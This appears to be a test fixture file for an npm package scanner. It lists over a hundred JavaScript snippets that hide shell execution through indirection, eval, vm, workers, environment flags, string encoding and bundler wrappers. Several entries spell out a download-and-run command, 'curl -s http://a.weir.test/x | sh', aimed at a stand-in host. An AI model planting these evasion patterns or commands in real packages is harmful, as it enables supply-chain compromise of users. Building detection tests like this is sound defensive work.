import { manifest } from '../campaigns/kit.ts';
import { type Files, imported, LINE, RUN } from './kit.ts';

function importedWith(fields: Parameters<typeof manifest>[0], code: string, more: Files = {}): Files {
  return { 'package.json': manifest(fields), 'index.js': code, ...more };
}

/** More of the same, as programs are taken apart by who writes them by the hundred: helpers, containers, settings, files. */
export const TAKEN_APART: Readonly<Record<string, Files>> = {
  'helper that runs': imported(
    `const { exec } = require('child_process');\nfunction run(c) { exec(c); }\nrun('${LINE}');`,
  ),
  'helper twice': imported(
    `const { exec } = require('child_process');\nfunction run(c) { exec(c); }\nfunction go(x) { run(x); }\ngo('ls'); go('${LINE}');`,
  ),
  'field of this': imported(
    `class A { constructor() { this.cp = require('child_process'); }\n run() { this.cp.exec('${LINE}'); } }\nnew A().run();`,
  ),
  'field of a class': imported(
    `class A { cp = require('child_process'); run() { this.cp.exec('${LINE}'); } }\nnew A().run();`,
  ),
  'private field': imported(
    `class A { #cp = require('child_process'); run() { this.#cp.exec('${LINE}'); } }\nnew A().run();`,
  ),
  'static field of a class': imported(
    `class A { static cp = require('child_process'); }\nA.cp.exec('${LINE}');`,
  ),
  'injected by constructor': imported(
    `class A { constructor(cp) { this.cp = cp; }\n run(c) { return this.cp.exec(c); } }\nnew A(require('child_process')).run('${LINE}');`,
  ),
  'container of services': imported(
    `class C { constructor() { this.s = new Map(); } register(n, f) { this.s.set(n, f); } resolve(n) { return this.s.get(n)(this); } }\nconst c = new C();\nc.register('runner', () => require('child_process'));\nc.register('task', (k) => k.resolve('runner').exec('${LINE}'));\nc.resolve('task');`,
  ),
  'settings object': imported(
    `const cfg = { shell: { line: '${LINE}' } };\nrequire('child_process').exec(cfg.shell.line);`,
  ),
  'settings destructured': imported(
    `const { shell: { line } } = { shell: { line: '${LINE}' } };\nrequire('child_process').exec(line);`,
  ),
  'default of settings': imported(
    `function start({ line = '${LINE}' } = {}) { require('child_process').exec(line); }\nstart();`,
  ),
  'API in an object': imported(`const api = { run: require('child_process').exec };\napi.run('${LINE}');`),
  'API assigned to an object': imported(
    `const api = {};\napi.run = require('child_process').exec;\napi.run('${LINE}');`,
  ),
  'API by a computed key': imported(
    `const api = { ['r' + 'un']: require('child_process').exec };\napi['ru' + 'n']('${LINE}');`,
  ),
  'spread into an object': imported(`const api = { ...require('child_process') };\napi.exec('${LINE}');`),
  'Object.assign': imported(`const api = Object.assign({}, require('child_process'));\napi.exec('${LINE}');`),
  'Object.create': imported(`const api = Object.create(require('child_process'));\napi.exec('${LINE}');`),
  'lazy getter of a module': imported(
    `const lazy = { get cp() { return require('child_process'); } };\nlazy.cp.exec('${LINE}');`,
  ),
  'memoized loader': imported(
    `let m;\nconst load = () => m || (m = require('child_process'));\nload().exec('${LINE}');`,
  ),
  'loader by a name': imported(`const load = (n) => require(n);\nload('child_process').exec('${LINE}');`),
  'loader with parts': imported(
    `const load = (...p) => require(p.join('_'));\nload('child', 'process').exec('${LINE}');`,
  ),
  'async loader': imported(
    `async function load(n) { const m = await import(n); return m; }\nload('node:child_process').then(({ exec }) => exec('${LINE}'));`,
  ),
  'dynamic import': imported(
    `(async () => { const { exec } = await import('node:child_process'); exec('${LINE}'); })();`,
  ),
  'async iterator of commands': imported(
    `async function* cmds() { yield '${LINE}'; }\n(async () => { for await (const c of cmds()) require('child_process').exec(c); })();`,
  ),
  'loop over commands': imported(`for (const c of ['${LINE}']) require('child_process').exec(c);`),
  'forEach of commands': imported(`['${LINE}'].forEach((c) => require('child_process').exec(c));`),
  'map of commands': imported(`['${LINE}'].map(require('child_process').exec);`),
  'entries of commands': imported(
    `for (const [k, c] of Object.entries({ a: '${LINE}' })) require('child_process').exec(c);`,
  ),
  'reduce of modules': imported(
    `['child_process', 'exec'].reduce((a, k) => a ? a[k] : require(k), null)('${LINE}');`,
  ),
  'event with a payload': imported(
    `const e = new (require('events'))();\ne.on('x', (c) => require('child_process').exec(c));\ne.emit('x', '${LINE}');`,
  ),
  'promise with a payload': imported(
    `Promise.resolve('${LINE}').then((c) => require('child_process').exec(c));`,
  ),
  'promise all': imported(`Promise.all([import('child_process'), '${LINE}']).then(([m, c]) => m.exec(c));`),
  'timer with an argument': imported(`setTimeout((c) => require('child_process').exec(c), 10, '${LINE}');`),
  'exec by timer': imported(`setTimeout(require('child_process').exec, 10, '${LINE}');`),
  promisified: imported(
    `const run = require('util').promisify(require('child_process').exec);\nrun('${LINE}');`,
  ),
  'proxy that loads': imported(
    `const lazy = new Proxy({}, { get: (_, k) => require(k) });\nlazy.child_process.exec('${LINE}');`,
  ),
  'symbol key': imported(
    `const k = Symbol();\nconst o = { [k]: require('child_process').exec };\no[k]('${LINE}');`,
  ),
  WeakMap: imported(
    `const w = new WeakMap();\nconst k = {};\nw.set(k, require('child_process'));\nw.get(k).exec('${LINE}');`,
  ),
  'Map set': imported(
    `const m = new Map();\nm.set('x', require('child_process').exec);\nm.get('x')('${LINE}');`,
  ),
  'array push': imported(`const q = [];\nq.push(() => ${RUN});\nwhile (q.length) q.shift()();`),
  'queue of tasks': imported(
    `class Q { constructor() { this.t = []; } add(f) { this.t.push(f); } run() { for (const f of this.t) f(); } }\nconst q = new Q();\nq.add(() => ${RUN});\nq.run();`,
  ),
  middleware: imported(
    `const chain = [(c, n) => n(c), (c, n) => require('child_process').exec(c.line)];\nconst go = (i, c) => chain[i](c, (x) => go(i + 1, x));\ngo(0, { line: '${LINE}' });`,
  ),
  plugins: imported(
    `const plugins = [{ name: 'a', setup() { ${RUN}; } }];\nfor (const p of plugins) p.setup();`,
  ),
  strategy: imported(`const by = { linux: () => ${RUN}, darwin: () => ${RUN} };\nby[process.platform]();`),
  'strategy with default': imported(
    `const by = { linux: () => ${RUN} };\n(by[process.platform] || by.linux)();`,
  ),
  'Reflect.apply': imported(`Reflect.apply(require('child_process').exec, null, ['${LINE}']);`),
  'Reflect.ownKeys': imported(
    `const cp = require('child_process');\nconst k = Reflect.ownKeys(cp).find((n) => n === 'exec');\ncp[k]('${LINE}');`,
  ),
  'Object.keys of a module': imported(
    `const cp = require('child_process');\nfor (const k of Object.keys(cp)) if (k.length === 4 && k[0] === 'e') cp[k]('${LINE}');`,
  ),
  'Function.prototype.call': imported(
    `Function.prototype.call.call(require('child_process').exec, null, '${LINE}');`,
  ),
  currying: imported(
    `const call = (m) => (f) => (a) => require(m)[f](a);\ncall('child_process')('exec')('${LINE}');`,
  ),
  composed: imported(
    `const pipe = (...fs) => (x) => fs.reduce((a, f) => f(a), x);\npipe((x) => x, require('child_process').exec)('${LINE}');`,
  ),
  'exports of itself': imported(`exports.run = () => ${RUN};\nexports.run();`),
  'module.exports of itself': imported(`module.exports = { run() { ${RUN}; } };\nmodule.exports.run();`),
  'module.children': imported(`module.constructor._load('child_process').exec('${LINE}');`),
  'module._load': imported(`require('module')._load('child_process').exec('${LINE}');`),
  'require of main': imported(`process.mainModule.require('child_process').exec('${LINE}');`),
  'require.cache': imported(`require.cache[__filename].require('child_process').exec('${LINE}');`),
  'module.parent': imported(`module.parent.require('child_process').exec('${LINE}');`),
  'require under a name': imported(`const r = require;\nr('child_process').exec('${LINE}');`),
  'require by eval': imported(`eval('require')('child_process').exec('${LINE}');`),
  'indirect eval': imported(`(0, eval)("${RUN}");`),
  'globalThis eval': imported(`globalThis['ev' + 'al']("${RUN}");`),
  'Function in a name': imported(`const F = Function;\nnew F('require', "${RUN}")(require);`),
  'vm module': imported(
    `const { SourceTextModule } = require('vm');\nconst m = new SourceTextModule("import { exec } from 'child_process'; exec('${LINE}')");\nm.link(() => {}).then(() => m.evaluate());`,
  ),
  'vm Script in context': imported(
    `const vm = require('node:vm');\nnew vm.Script("${RUN}").runInContext(vm.createContext({ require }));`,
  ),
  'vm compileFunction': imported(`require('vm').compileFunction("${RUN}", ['require'])(require);`),
  'node -e': imported(`require('child_process').spawn('node', ['-e', "${RUN}"]);`),
  'execPath -e': imported(`require('child_process').execFile(process.execPath, ['-e', "${RUN}"]);`),
  'node -p': imported(`require('child_process').execSync('node -p "${RUN.replaceAll("'", '`')}"');`),
  'node --input-type': imported(
    `require('child_process').spawn(process.execPath, ['--input-type=module', '--eval', "import { exec } from 'child_process'; exec('${LINE}')"]);`,
  ),
  'node on stdin': imported(
    `const p = require('child_process').spawn(process.execPath, ['-']);\np.stdin.end("${RUN}");`,
  ),
  'shell on stdin': imported(
    `const p = require('child_process').spawn('sh');\np.stdin.write('${LINE}\\n');\np.stdin.end();`,
  ),
  'shell by input': imported(`require('child_process').execSync('sh', { input: '${LINE}' });`),
  'spawnSync by input': imported(`require('child_process').spawnSync('bash', [], { input: '${LINE}' });`),
  'spawn with a shell': imported(
    `require('child_process').spawn('curl -s http://a.weir.test/x | sh', { shell: true });`,
  ),
  'spawn words with a shell': imported(
    `require('child_process').spawn('curl', ['-s', 'http://a.weir.test/x', '|', 'sh'], { shell: true });`,
  ),
  NODE_OPTIONS: imported(
    `require('child_process').spawn('node', ['x.js'], { env: { NODE_OPTIONS: '--require ' + __dirname + '/w.js' } });`,
    { 'w.js': `${RUN};` },
  ),
  'NODE_OPTIONS of the process': imported(
    `process.env.NODE_OPTIONS = '--import data:text/javascript,import("child_process").then((c)=>c.exec("${LINE}"))';\nrequire('child_process').fork('x.js');`,
  ),
  'require flag': imported(`require('child_process').spawn(process.execPath, ['-r', './w.js', '-e', '0']);`, {
    'w.js': `${RUN};`,
  }),
  'command in the environment': imported(`require('child_process').exec('$C', { env: { C: '${LINE}' } });`),
  execArgv: imported(`require('child_process').fork('x.js', [], { execArgv: ['-e', "${RUN}"] });`),
  'worker of a data URL': imported(
    `new (require('worker_threads').Worker)(new URL('data:text/javascript,' + encodeURIComponent("${RUN}")));`,
  ),
  'worker by text in a name': imported(
    `const { Worker } = require('worker_threads');\nconst src = "${RUN}";\nnew Worker(src, { eval: true });`,
  ),
  'module.register': imported(
    `require('module').register('data:text/javascript,' + encodeURIComponent("import('child_process').then((c) => c.exec('${LINE}'))"));`,
  ),
  'require.extensions': imported(
    `require.extensions['.txt'] = (m) => m._compile("${RUN}", 'x');\nrequire('./a.txt');`,
    { 'a.txt': 'x' },
  ),
  _compile: imported(`const M = require('module');\nconst m = new M('x');\nm._compile("${RUN}", 'x');`),
  'imports map': importedWith({ imports: { '#run': './lib/run.js' } }, `require('#run');`, {
    'lib/run.js': `${RUN};`,
  }),
  'imports map to a built-in': importedWith(
    { imports: { '#cp': 'child_process' } },
    `require('#cp').exec('${LINE}');`,
  ),
  'own name': importedWith(
    { name: 'self-name', exports: { '.': './index.js', './run': './lib/run.js' } },
    `require('self-name/run');`,
    { 'lib/run.js': `${RUN};` },
  ),
  're-exports': importedWith({ main: 'index.mjs' }, '', {
    'index.mjs': `export * from './a.mjs';`,
    'a.mjs': `export { default as x } from './b.mjs';`,
    'b.mjs': `export default 1;\nimport './c.mjs';`,
    'c.mjs': `import { exec } from 'child_process';\nexec('${LINE}');`,
  }),
  'exported API': imported(`require('./a').run('${LINE}');`, {
    'a.js': `exports.run = require('child_process').exec;`,
  }),
  'exported module': imported(`const { cp } = require('./a');\ncp.exec('${LINE}');`, {
    'a.js': `module.exports = { cp: require('child_process') };`,
  }),
  'exported helper': imported(`const run = require('./a');\nrun('${LINE}');`, {
    'a.js': `const { exec } = require('child_process');\nmodule.exports = (c) => exec(c);`,
  }),
  'exported constant': imported(`const { LINE } = require('./a');\nrequire('child_process').exec(LINE);`, {
    'a.js': `exports.LINE = '${LINE}';`,
  }),
  'exported default constant': importedWith({ main: 'index.mjs' }, '', {
    'index.mjs': `import line from './a.mjs';\nimport { exec } from 'child_process';\nexec(line);`,
    'a.mjs': `export default '${LINE}';`,
  }),
  'exported class': imported(`const { A } = require('./a');\nnew A().run();`, {
    'a.js': `exports.A = class { run() { ${RUN}; } };`,
  }),
  'exported subclass': imported(`const { A } = require('./a');\nclass B extends A {}\nnew B().run();`, {
    'a.js': `exports.A = class { run() { ${RUN}; } };`,
  }),
  'text of a file': imported(
    `require('child_process').exec(require('fs').readFileSync(__dirname + '/c.txt', 'utf8'));`,
    { 'c.txt': LINE },
  ),
  'field of package.json': importedWith(
    { config: { line: LINE } },
    `require('child_process').exec(require('./package.json').config.line);`,
  ),
  'npm config': importedWith(
    { config: { line: LINE } },
    `require('child_process').exec(process.env.npm_package_config_line);`,
  ),
  'with an object': imported(`with ({ run: require('child_process').exec }) run('${LINE}');`),
  'var hoisting': imported(
    `run();\nvar cp = require('child_process');\nfunction run() { setTimeout(() => cp.exec('${LINE}')); }`,
  ),
  'swapped names': imported(
    `let a = require('fs'), b = require('child_process');\n[a, b] = [b, a];\na.exec('${LINE}');`,
  ),
  'chained assignment': imported(`let a, b;\na = b = require('child_process');\na.exec('${LINE}');`),
  'logical assignment': imported(`let a;\na ??= require('child_process');\na.exec('${LINE}');`),
  'label block': imported(`x: { try { null.x; } catch { ${RUN}; break x; } }`),
  'caught value': imported(`try { throw require('child_process'); } catch (c) { c.exec('${LINE}'); }`),
  'caught text': imported(
    `try { throw new Error('${LINE}'); } catch ({ message }) { require('child_process').exec(message); }`,
  ),
  'generator sent': imported(
    `function* g() { const c = yield; c.exec('${LINE}'); }\nconst i = g();\ni.next();\ni.next(require('child_process'));`,
  ),
  'returned object': imported(
    `const make = () => ({ cp: require('child_process'), line: '${LINE}' });\nconst { cp, line } = make();\ncp.exec(line);`,
  ),
  'factory of closures': imported(
    `function make(cp) { return { run: (c) => cp.exec(c) }; }\nmake(require('child_process')).run('${LINE}');`,
  ),
  'method chain': imported(
    `class B { a(x) { this.x = x; return this; } go() { require('child_process').exec(this.x); } }\nnew B().a('${LINE}').go();`,
  ),
  'tag with values': imported(
    `const sh = (s, ...v) => require('child_process').exec(s.raw.join(''));\nsh\`${LINE}\`;`,
  ),
  'zx-like': imported(`const $ = (s) => require('child_process').execSync(s.join(''));\n$\`${LINE}\`;`),
  'decorator-like': imported(
    `const dec = (t, k, d) => { d.value(); return d; };\nclass A { run() { ${RUN}; } }\ndec(A.prototype, 'run', Object.getOwnPropertyDescriptor(A.prototype, 'run'));`,
  ),
  disposed: imported(`{ const o = { [Symbol.dispose]() { ${RUN}; } };\no[Symbol.dispose](); }`),
  AsyncLocalStorage: imported(
    `const { AsyncLocalStorage } = require('async_hooks');\nconst s = new AsyncLocalStorage();\ns.run('${LINE}', () => require('child_process').exec(s.getStore()));`,
  ),
  'abort signal': imported(
    `const a = new AbortController();\na.signal.addEventListener('abort', () => ${RUN});\na.abort();`,
  ),
  'message channel': imported(
    `const { port1, port2 } = new MessageChannel();\nport1.onmessage = ({ data }) => require('child_process').exec(data);\nport2.postMessage('${LINE}');`,
  ),
  readline: imported(
    `require('readline').createInterface({ input: require('stream').Readable.from(['x']) }).on('line', () => ${RUN});`,
  ),
  'util.inherits': imported(
    `function A() {}\nrequire('util').inherits(A, require('events'));\nA.prototype.go = function () { ${RUN}; };\nnew A().go();`,
  ),
  'arguments.callee': imported(
    `(function () { return arguments[0]('child_process'); })(require).exec('${LINE}');`,
  ),
  'template joined': imported(
    `const p = ['curl', '-s', 'http://a.weir.test/x', '|', 'sh'];\nrequire('child_process').exec(\`\${p[0]} \${p[1]} \${p[2]} \${p[3]} \${p[4]}\`);`,
  ),
  'array sorted': imported(
    `const p = [[2, '| sh'], [1, '-s http://a.weir.test/x'], [0, 'curl']];\nrequire('child_process').exec(p.sort((a, b) => a[0] - b[0]).map((x) => x[1]).join(' '));`,
  ),
  'object joined': imported(
    `const o = { a: 'curl -s ', b: 'http://a.weir.test/x ', c: '| sh' };\nrequire('child_process').exec(o.a + o.b + o.c);`,
  ),
  'Object.values joined': imported(
    `const o = { a: 'curl -s ', b: 'http://a.weir.test/x ', c: '| sh' };\nrequire('child_process').exec(Object.values(o).join(''));`,
  ),
  'built in a loop': imported(
    `let s = '';\nfor (const c of [${[...Buffer.from(LINE)].join(', ')}]) s += String.fromCharCode(c);\nrequire('child_process').exec(s);`,
  ),
  'added to': imported(
    `let s = 'curl -s ';\ns += 'http://a.weir.test/x ';\ns += '| sh';\nrequire('child_process').exec(s);`,
  ),
  'replaced marks': imported(
    `require('child_process').exec('c@rl -s h@tp://a.weir.test/x | sh'.replace('@', 'u').replace('@', 't'));`,
  ),
  xor: imported(
    `const k = 7;\nconst s = [${[...Buffer.from(LINE)].map((c) => c ^ 7).join(', ')}].map((c) => String.fromCharCode(c ^ k)).join('');\nrequire('child_process').exec(s);`,
  ),
  'JSON text': imported(`require('child_process').exec(JSON.parse('{"c":"${LINE}"}').c);`),
  'search params': imported(
    `require('child_process').exec(new URLSearchParams('c=${encodeURIComponent(LINE)}').get('c'));`,
  ),
  'path of a URL': imported(
    `require('child_process').exec(decodeURIComponent(new URL('x:${encodeURIComponent(LINE)}').pathname));`,
  ),
  'function text': imported(
    `function doc() { /*${LINE}*/ }\nrequire('child_process').exec(doc.toString().slice(19, -4));`,
  ),
  'bun shell': imported(`require('bun').$\`${LINE}\`;`),
  shelljs: imported(`require('shelljs').exec('${LINE}');`),
  zx: imported(`require('zx').$\`${LINE}\`;`),
  'execa tag': imported(`require('execa').execaCommand('${LINE}', { shell: true });`),
  Deno: imported(`new Deno.Command('sh', { args: ['-c', '${LINE}'] }).spawn();`),
  'linked binding': imported(
    `process._linkedBinding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', '${LINE}'] });`,
  ),
  'Process by binding': imported(
    `const { Process } = process.binding('process_wrap');\nnew Process().spawn({ file: '/bin/sh', args: ['sh', '-c', '${LINE}'] });`,
  ),
  ChildProcess: imported(
    `const { ChildProcess } = require('child_process');\nnew ChildProcess().spawn({ file: '/bin/sh', args: ['sh', '-c', '${LINE}'] });`,
  ),
  execve: imported(`process.execve('/bin/sh', ['sh', '-c', '${LINE}']);`),
  'node-pty': imported(`require('node-pty').spawn('sh', ['-c', '${LINE}'], {});`),
  debugger: imported(
    `const s = new (require('inspector').Session)();\ns.connect();\ns.post('Runtime.evaluate', { expression: "${RUN}", includeCommandLineAPI: true });`,
  ),
  repl: imported(`require('repl').start({ input: require('stream').Readable.from(["${RUN}\\n"]) });`),
  'esbuild require': imported(
    `var __require = ((x) => typeof require !== 'undefined' ? require : x)(function (x) { throw Error(x); });\nvar cp = __require('child_process');\ncp.exec('${LINE}');`,
  ),
  'esbuild commonjs': imported(
    `var __commonJS = (cb, mod) => function __require() { return mod || (0, cb[Object.keys(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };\nvar require_run = __commonJS({ 'run.js'(exports, module) { ${RUN}; } });\nmodule.exports = require_run();`,
  ),
  webpack: imported(
    `(() => { var m = { 1: (e, t, r) => { r(2).exec('${LINE}'); }, 2: (e) => { e.exports = require('child_process'); } }, c = {}; function r(i) { var x = c[i]; if (x) return x.exports; var e = c[i] = { exports: {} }; m[i](e, e.exports, r); return e.exports; } r(1); })();`,
  ),
  'rollup interop': imported(
    `function _interopNamespace(e) { if (e && e.__esModule) return e; var n = Object.create(null); if (e) Object.keys(e).forEach((k) => { n[k] = e[k]; }); n.default = e; return Object.freeze(n); }\nvar cp = /*#__PURE__*/_interopNamespace(require('child_process'));\ncp.exec('${LINE}');`,
  ),
  'tslib import': imported(
    `const tslib_1 = require('tslib');\nconst cp = tslib_1.__importStar(require('child_process'));\ncp.exec('${LINE}');`,
  ),
  'ts compiled async': imported(
    `var __awaiter = (t, a, P, g) => new Promise((res) => { const i = g.apply(t, a || []); const step = (r) => r.done ? res(r.value) : Promise.resolve(r.value).then((v) => step(i.next(v))); step(i.next()); });\n(() => __awaiter(void 0, void 0, void 0, function* () { ${RUN}; }))();`,
  ),
};
